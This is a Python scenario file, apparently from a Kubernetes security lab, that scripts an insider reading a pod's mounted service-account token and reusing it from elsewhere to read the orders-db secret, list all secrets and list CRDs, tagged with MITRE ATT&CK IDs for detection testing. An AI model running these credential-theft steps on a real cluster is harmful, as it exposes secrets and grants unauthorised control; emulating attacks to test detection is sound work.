"""A developer's session reads the token mounted in a pod, and that very token is used from elsewhere."""

from lab.cast import AGENTS
from lab.client import Identity
from lab.story import Scenario, Stage
from lab.streams import run

_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def _play(stage: Stage) -> None:
    insider = stage.person("erin")
    target = stage.lab.running("shop", "orders-operator")
    with stage.step("read the mounted token", insider, "credential-access", ("C01", "C06", "N07", "N12")):
        answer = stage.must(run(insider, "shop", target.name, ["cat", _TOKEN]))
    token = answer.body.decode().strip()
    thief = stage.stranger(Identity(target.identity.name, token), AGENTS["python"])
    with stage.step("act as the operator", thief, "privilege-escalation", ("A08", "N08", "N12", "F08", "J01")):
        stage.must(thief.get("/api/v1/namespaces/shop/secrets/orders-db"))
        thief.get("/api/v1/secrets")
        thief.get("/apis/apiextensions.k8s.io/v1/customresourcedefinitions")


SCENARIO = Scenario(
    "exec-token-theft",
    "A token is read in a pod and used elsewhere",
    "attack",
    "become the operator",
    ("T1609", "T1528", "T1550.001"),
    _play,
)
